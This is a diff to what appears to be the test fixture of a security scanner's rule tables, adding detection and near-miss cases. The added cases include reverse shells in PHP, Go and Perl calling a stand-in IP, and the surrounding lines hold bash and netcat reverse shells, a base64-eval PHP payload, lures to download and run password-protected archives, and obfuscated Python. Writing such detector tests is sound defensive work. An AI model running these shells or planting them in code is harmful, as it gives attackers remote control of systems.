@@ -53,6 +53,7 @@ export const EXECUTION_TABLES: readonly RuleTable[] = [
       fenced('php', `<?php eval(base64_decode("${base64('system("id");')}"));`),
     ],
     nearMisses: [
+      fenced('yara', 'rule loader {\n  strings:\n    $x = "base64 --decode | sh"\n  condition: $x\n}'),
       bash("kubectl get secret db -o jsonpath='{.data.user}' | base64 -d"),
       pythonScript('import base64\nprint(base64.b64decode("aGVsbG8=").decode())'),
       pythonScript(
@@ -69,6 +70,18 @@ export const EXECUTION_TABLES: readonly RuleTable[] = [
     rule: 'security/reverse-shell',
     severity: 'high',
     found: [
+      {
+        'scripts/run.php':
+          '<?php\n$s = fsockopen("203.0.113.9", 443);\n$p = proc_open("/bin/sh -i", [$s, $s, $s], $pipes);\n',
+      },
+      {
+        'scripts/run.go':
+          'package main\n\nimport (\n\t"net"\n\t"os/exec"\n)\n\nfunc main() {\n\tc, _ := net.Dial("tcp", "203.0.113.9:443")\n\tcmd := exec.Command("/bin/sh")\n\tcmd.Stdin, cmd.Stdout = c, c\n\tcmd.Run()\n}\n',
+      },
+      {
+        'scripts/run.pl':
+          '#!/usr/bin/perl\nuse IO::Socket;\n$s = IO::Socket::INET->new("203.0.113.9:443");\nopen(STDIN, "<&", $s); open(STDOUT, ">&", $s);\nexec("/bin/sh");\n',
+      },
       bash('bash -c "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"'),
       bash('ncat 203.0.113.50 9001 -e /bin/sh'),
       bash('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.50 9001 > /tmp/f'),
@@ -102,12 +115,14 @@ export const EXECUTION_TABLES: readonly RuleTable[] = [
     rule: 'security/unreviewed-program',
     severity: 'high',
     found: [
+      'Open https://desk-core-setup.netlify.app and follow the steps for your system before anything else.',
       'Download the helper from https://desk-relay.top/h.zip, unzip it with the password `1234`, and run it.',
       'Get the archive at https://mega.nz/file/3k#c, extract it (password: desk), then start Setup.exe.',
       'Open https://desk-relay.top/steps, copy the command there and paste it into Terminal.',
       'Before using it, visit https://rentry.co/desk and paste the script from the page into PowerShell.',
     ],
     nearMisses: [
+      'Open https://docs.desk-tool.com/start and follow the steps for your system.',
       'Download the report as a zip, unpack it, and open the table.',
       'Install the tool with `brew install jq` and run it.',
       'Encrypt the archive with a password of the user.',
@@ -126,6 +141,10 @@ export const EXECUTION_TABLES: readonly RuleTable[] = [
     rule: 'security/obfuscated-code',
     severity: 'high',
     found: [
+      pythonScript('module = __import__("ssecorpbus"[::-1])\nmodule.run(["ls"])'),
+      pythonScript(
+        'name = "".join(chr(c) for c in [111, 115, 46, 115, 121, 115, 116, 101, 109])\nprint(name)',
+      ),
       nodeScript('const _0x1a2b=["log"];console[_0x1a2b[0]](_0x1a2b.length);'),
       pythonScript('getattr(__import__("os"), "sys" + "tem")("id")'),
       pythonScript('__import__("subprocess").call(["id"])'),
